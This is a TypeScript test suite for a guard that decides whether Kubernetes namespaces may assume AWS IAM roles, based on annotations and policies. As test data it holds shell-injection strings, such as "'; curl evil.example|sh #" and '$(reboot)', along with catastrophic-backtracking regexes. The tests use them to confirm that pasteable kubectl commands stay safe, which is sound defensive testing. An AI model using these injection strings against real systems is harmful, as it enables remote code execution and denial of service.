import { describe, expect, it } from 'vitest';
import {
  type Requester,
  createGuard,
  type RolePolicy,
  roleArnFor,
} from '../../../../lambda/decide/guard.ts';
import type { ObservedNamespace } from '../../../../lambda/observe/namespaces.ts';
import { aNamespace, aPolicy, BASE_ROLE_ARN, listing } from '../../../support/builders.ts';

const ALLOWED = 'iam.amazonaws.com/allowed-roles';
const PERMITTED = 'iam.amazonaws.com/permitted';

function judge(
  annotations: Record<string, string>,
  role = 'orders',
  policy: Parameters<typeof aPolicy>[0] = {},
) {
  const guard = createGuard(aPolicy(policy), listing([aNamespace('shop', annotations)]));
  return guard('shop', BASE_ROLE_ARN + role, 'pod');
}

describe('the stack', () => {
  it('refuses a role that matches none of the assumable patterns', () => {
    const verdict = judge({ [ALLOWED]: '["*"]' }, 'admin', {
      assumableRoles: [`${BASE_ROLE_ARN}app-*`],
    });
    expect(verdict).toMatchObject({ kind: 'refused', reason: 'role-not-assumable' });
  });

  it('refuses a denied role in any case of its letters', () => {
    const verdict = judge({ [ALLOWED]: '["*"]' }, 'CDK-hnb659fds-deploy', {
      deniedRoles: ['arn:aws:iam::*:role/cdk-*'],
    });
    expect(verdict).toMatchObject({ kind: 'refused', reason: 'role-denied' });
  });

  it('refuses a denied role although everything else allows it', () => {
    const verdict = judge({ [ALLOWED]: '["*"]' }, 'cdk-hnb659fds-deploy', {
      deniedRoles: ['arn:aws:iam::*:role/cdk-*'],
      namespaceRestrictions: 'off',
    });
    expect(verdict).toMatchObject({ kind: 'refused', reason: 'role-denied' });
  });
});

describe('a namespace without annotation', () => {
  it.each([
    ['required', 'refused'],
    ['annotated', 'allowed'],
    ['off', 'allowed'],
  ] as const)('in mode %s is %s', (namespaceRestrictions, kind) => {
    expect(judge({}, 'orders', { namespaceRestrictions })).toMatchObject({ kind });
  });

  it.each([
    ['orders', 'orders$'],
    ['team.orders-v2', 'team[.]orders-v2$'],
  ])('is told an expression that allows %s alone, where expressions are read', (role, element) => {
    const policy = { allowedRolesFormat: 'regexp' } as const;
    const command = `'${ALLOWED}=${JSON.stringify([element])}'`;
    expect(judge({}, role, policy)).toMatchObject({ message: expect.stringContaining(command) });
    const annotations = { [ALLOWED]: JSON.stringify([element]) };
    expect(judge(annotations, role, policy).kind).toBe('allowed');
    for (const other of [`${role}-admin`, role.replace('.', 'x').replace(/s$/, '')]) {
      expect(judge(annotations, other, policy)).toMatchObject({
        message: expect.stringContaining(
          `add "${other.replaceAll('.', '[.]')}$" to its annotation`,
        ),
      });
    }
  });

  it('is told the command that would allow the role', () => {
    expect(judge({})).toMatchObject({
      reason: 'namespace-not-annotated',
      message: expect.stringContaining(
        `kubectl annotate namespace shop 'iam.amazonaws.com/allowed-roles=["orders"]'`,
      ),
    });
  });
});

describe('a role that its name alone does not tell', () => {
  const ELSEWHERE = 'arn:aws-cn:iam::999999999999:role/team/orders';

  function refused(roleArn: string) {
    const policy = aPolicy({ assumableRoles: ['arn:*'] });
    return createGuard(policy, listing([aNamespace('shop', {})]))('shop', roleArn, 'awsIamRole');
  }

  it('is named by its path below the base in the command that would allow it', () => {
    const command = `kubectl annotate namespace shop 'iam.amazonaws.com/allowed-roles=["team/orders"]'`;
    expect(refused(`${BASE_ROLE_ARN}team/orders`)).toMatchObject({
      message: expect.stringContaining(command),
    });
  });

  it('is named by its ARN elsewhere', () => {
    expect(refused(ELSEWHERE)).toMatchObject({
      message: expect.stringContaining(`=["${ELSEWHERE}"]'`),
    });
  });

  it.each(["'; curl evil.example|sh #", '$(reboot)', '`reboot`', '"', '\\'])(
    'is not in that command when its path has %j, which a shell might take otherwise',
    (path) => {
      const verdict = refused(`${BASE_ROLE_ARN}${path}/orders`);
      expect(verdict).toMatchObject({ reason: 'namespace-not-annotated' });
      const [, command = ''] = JSON.stringify(verdict).split('to allow this one: ');
      expect(command).toMatch(/^kubectl edit namespace shop, and set/);
    },
  );
});

describe('annotations', () => {
  // allowed-roles, permitted, role -> verdict
  it.each([
    ['["orders"]', undefined, 'orders', 'allowed'],
    ['["orders"]', undefined, 'orders-2', 'namespace-does-not-allow'],
    ['["ord*"]', undefined, 'orders-2', 'allowed'],
    ['["*"]', undefined, 'anything', 'allowed'],
    ['[]', undefined, 'orders', 'namespace-does-not-allow'],
    ['["billing","orders"]', undefined, 'orders', 'allowed'],
    ['["arn:aws:iam::123456789012:role/orders"]', undefined, 'orders', 'allowed'],
    ['["arn:aws:iam::999999999999:role/orders"]', undefined, 'orders', 'namespace-does-not-allow'],
    ['["order?"]', undefined, 'orders', 'namespace-does-not-allow'],
    ['["Orders"]', undefined, 'orders', 'namespace-does-not-allow'],
    [undefined, '.*', 'orders', 'allowed'],
    [undefined, '.*/orders', 'orders', 'allowed'],
    [undefined, 'orders', 'orders', 'namespace-does-not-allow'],
    [undefined, '.*/(orders|billing)', 'billing', 'allowed'],
    [
      undefined,
      'arn:aws:iam::123456789012:role/orders|x',
      'orders-admin',
      'namespace-does-not-allow',
    ],
    [undefined, 'x|.*orders', 'orders-admin', 'namespace-does-not-allow'],
    [undefined, '', 'orders', 'namespace-does-not-allow'],
    ['["billing"]', '.*/orders', 'orders', 'allowed'],
    ['["orders"]', '.*/billing', 'orders', 'allowed'],
    ['orders', undefined, 'orders', 'namespace-annotation-malformed'],
    ['"orders"', undefined, 'orders', 'namespace-annotation-malformed'],
    ['["orders", 1]', undefined, 'orders', 'namespace-annotation-malformed'],
    ['{"orders": true}', undefined, 'orders', 'namespace-annotation-malformed'],
    ['', undefined, 'orders', 'namespace-annotation-malformed'],
    [undefined, '(', 'orders', 'namespace-annotation-malformed'],
    [undefined, '(?=orders).*', 'orders', 'namespace-annotation-malformed'],
    [undefined, '(.*)\\1', 'orders', 'namespace-annotation-malformed'],
    [undefined, 'x'.repeat(513), 'orders', 'namespace-annotation-malformed'],
    ['["orders"]', '(', 'orders', 'namespace-annotation-malformed'],
    ['not json', '.*', 'orders', 'namespace-annotation-malformed'],
    [
      JSON.stringify(Array(2_000).fill('*b')),
      undefined,
      'orders',
      'namespace-annotation-malformed',
    ],
  ])('allowed-roles %j and permitted %j for %s: %s', (allowed, permitted, role, expected) => {
    const verdict = judge(
      {
        ...(allowed === undefined ? {} : { [ALLOWED]: allowed }),
        ...(permitted === undefined ? {} : { [PERMITTED]: permitted }),
      },
      role,
    );
    expect('reason' in verdict ? verdict.reason : verdict.kind).toBe(expected);
  });

  it('are not looked at in mode off', () => {
    expect(judge({ [ALLOWED]: '[]' }, 'orders', { namespaceRestrictions: 'off' }).kind).toBe(
      'allowed',
    );
  });

  it.each([
    '(a+)+$',
    '((a*)*)*b',
    '(.*.*.*.*.*.*.*.*.*.*){100}x',
    '\\pL{1000}',
    '(x{1000}){1000}',
    '(?:a?){1000}a{1000}',
    '((.{0,30}){0,30})'.repeat(60),
    '((.{0,30}){0,30})'.repeat(28),
    `(?:(?:${'a'.repeat(480)}){0,30}){0,30}`,
    `(?:${'a?'.repeat(240)}){1000}`,
  ])('cannot hang a run by %s', (expression) => {
    // A backtracking engine needs longer than the universe has for some of these.
    const verdict = judge({ [PERMITTED]: expression }, 'a'.repeat(60));
    expect(verdict.kind).toBe('refused');
    const listed = { [ALLOWED]: JSON.stringify([`x${expression}`]) };
    const policy = { allowedRolesFormat: 'regexp' } as const;
    expect(judge(listed, 'a'.repeat(60), policy).kind).toBe('refused');
  });

  it.each([
    ['a group repeated by count', ['orders(-[a-z]+){0,2}'], false],
    ['counts that add up', [`${'.{0,30}'.repeat(9)}`], false],
    ['one large count', ['orders-[a-z]{0,300}'], false],
    ['a class of Unicode', ['orders-\\p{Greek}'], false],
    ['a long expression', ['orders'.repeat(86)], false],
    ['many that are small', Array(40).fill('orders-[a-z0-9-]{1,24}'), false],
    ['one of each kind that is honest', ['orders-\\d{1,3}', 'orders-[a-z0-9-]{1,63}', 'x+'], true],
    ['sixty names', [...Array(60).keys()].map((i) => `team-orders-${i % 10}$`), true],
    ['twelve ARNs', Array(12).fill('arn:aws:iam::[0-9]{12}:role/team-a/orders-reader-.*'), true],
  ])('hold for a list that is bounded as a whole: %s', (_, sources, isTaken) => {
    const annotations = { [ALLOWED]: JSON.stringify(sources) };
    const verdict = judge(annotations, 'billing', { allowedRolesFormat: 'regexp' });
    const reason = isTaken ? 'namespace-does-not-allow' : 'namespace-annotation-malformed';
    expect(verdict).toMatchObject({ reason });
  });

  it('are not quoted in a refusal, which an administrator may paste', () => {
    const verdict = judge({ [ALLOWED]: `["'; curl evil.example | sh #"]` });
    expect(JSON.stringify(verdict)).not.toContain('evil');
  });
});

describe('a namespace', () => {
  it('that is being deleted is judged like any other, and known for it', () => {
    const guard = createGuard(aPolicy(), listing([{ ...aNamespace(), terminating: true }]));
    expect(guard('shop', `${BASE_ROLE_ARN}orders`, 'pod')).toMatchObject({
      kind: 'allowed',
      isTerminating: true,
    });
  });

  it('that was not seen is not judged', () => {
    expect(createGuard(aPolicy(), listing([]))('shop', `${BASE_ROLE_ARN}orders`, 'pod').kind).toBe(
      'unknown',
    );
  });

  it('that was not seen does not matter in mode off', () => {
    const guard = createGuard(aPolicy({ namespaceRestrictions: 'off' }), listing([]));
    expect(guard('shop', `${BASE_ROLE_ARN}orders`, 'pod').kind).toBe('allowed');
  });
});

describe("the forwarder's own role", () => {
  const HOME = 'kube-aws-iam';
  const PATHED = 'arn:aws:iam::123456789012:role/kube-aws-iam/forwarder-prod';

  function judgeForwarder(
    where: string,
    namespaces: readonly ObservedNamespace[],
    policy: Partial<RolePolicy> = {},
    asker: Requester = 'pod',
  ) {
    const all = { forwarderRoleArn: `${BASE_ROLE_ARN}forwarder-prod`, ...policy };
    const whole = aPolicy(all);
    const roleArn = roleArnFor(whole, where, 'forwarder-prod');
    return createGuard(whole, listing(namespaces))(where, roleArn, asker);
  }

  it.each<[string, readonly ObservedNamespace[], Partial<RolePolicy>]>([
    ['no annotation', [aNamespace(HOME, {})], {}],
    ['an annotation that allows nothing', [aNamespace(HOME, { [ALLOWED]: '[]' })], {}],
    ['a broken annotation', [aNamespace(HOME, { [PERMITTED]: '(' })], {}],
    [
      'assumableRoles without it',
      [aNamespace(HOME)],
      { assumableRoles: ['arn:aws:iam::1:role/x'] },
    ],
    ['deniedRoles with it', [aNamespace(HOME)], { deniedRoles: ['arn:aws:iam::*:role/*'] }],
    ['a namespace that was not seen', [], {}],
    ['no restrictions', [], { namespaceRestrictions: 'off' }],
    ['a role with a path', [aNamespace(HOME, {})], { forwarderRoleArn: PATHED }],
  ])("is given to the product's namespace with %s", (_, namespaces, policy) => {
    const { forwarderRoleArn: roleArn = `${BASE_ROLE_ARN}forwarder-prod` } = policy;
    expect(judgeForwarder(HOME, namespaces, policy)).toEqual({
      kind: 'allowed',
      roleArn,
      isTerminating: false,
    });
  });

  it('is known to go with a namespace that is being deleted', () => {
    const leaving = { ...aNamespace(HOME), terminating: true };
    expect(judgeForwarder(HOME, [leaving])).toMatchObject({ isTerminating: true });
  });

  it.each(['required', 'annotated', 'off'] as const)(
    'is refused to every other namespace in mode %s, whatever that allows',
    (namespaceRestrictions) => {
      for (const where of ['shop', `${HOME}-2`, 'kube-aws']) {
        const verdict = judgeForwarder(where, [aNamespace(where)], { namespaceRestrictions });
        expect(verdict).toMatchObject({ kind: 'refused', reason: 'role-denied' });
      }
    },
  );

  it('is refused to an AWSIAMRole, at home too', () => {
    for (const where of ['shop', HOME]) {
      const verdict = judgeForwarder(where, [aNamespace(where)], {}, 'awsIamRole');
      expect(verdict).toMatchObject({ kind: 'refused', reason: 'role-denied' });
    }
  });

  it('is refused to an AWSIAMRole that writes it in another case', () => {
    const policy = aPolicy({ forwarderRoleArn: `${BASE_ROLE_ARN}forwarder-prod` });
    const guard = createGuard(policy, listing([aNamespace(HOME)]));
    const verdict = guard(HOME, `${BASE_ROLE_ARN}Forwarder-Prod`, 'awsIamRole');
    expect(verdict).toMatchObject({ kind: 'refused', reason: 'role-denied' });
  });

  it("leaves the product's namespace under the rules of all others for any other role", () => {
    const policy = aPolicy({ forwarderRoleArn: `${BASE_ROLE_ARN}forwarder-prod` });
    const guard = createGuard(policy, listing([aNamespace(HOME, {})]));
    expect(guard(HOME, `${BASE_ROLE_ARN}orders`, 'pod')).toMatchObject({
      reason: 'namespace-not-annotated',
    });
    expect(guard(HOME, `${BASE_ROLE_ARN}forwarder`, 'pod')).toMatchObject({
      reason: 'namespace-not-annotated',
    });
  });

  it("is nobody's when the forwarder has its credentials from elsewhere", () => {
    const guard = createGuard(aPolicy(), listing([aNamespace(HOME, {})]));
    expect(guard(HOME, `${BASE_ROLE_ARN}forwarder-prod`, 'pod')).toMatchObject({
      reason: 'namespace-not-annotated',
    });
  });

  it('is meant by its name at home only, where its path is not that of other roles', () => {
    const policy = aPolicy({ forwarderRoleArn: PATHED });
    expect(roleArnFor(policy, HOME, 'forwarder-prod')).toBe(PATHED);
    expect(roleArnFor(policy, 'shop', 'forwarder-prod')).toBe(`${BASE_ROLE_ARN}forwarder-prod`);
    expect(roleArnFor(policy, HOME, 'orders')).toBe(`${BASE_ROLE_ARN}orders`);
  });
});
